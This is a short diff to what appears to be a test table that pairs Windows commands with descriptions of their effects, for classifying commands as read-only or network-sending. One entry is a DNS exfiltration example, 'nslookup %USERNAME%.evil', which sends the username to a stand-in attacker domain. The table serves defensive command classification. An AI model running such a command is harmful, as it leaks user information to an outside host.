@@ -217,7 +217,7 @@ export const programs: [text: string, line: string][] = [
 	["nbtstat -n", "reads only"],
 	["pathping x", "reads only"],
 	["nslookup x", "reads only"],
-	["nslookup %USERNAME%.evil", "sends something to %USERNAME%.evil"],
+	["nslookup %USERNAME%.evil", "sends something to %USERNAME%.evil; as SYSTEM, %USERNAME% is not the user's"],
 	["ping %x%", "sends something to %x%"],
 	["ipconfig", "reads only"],
 	["ipconfig /renew", "changes network settings"],
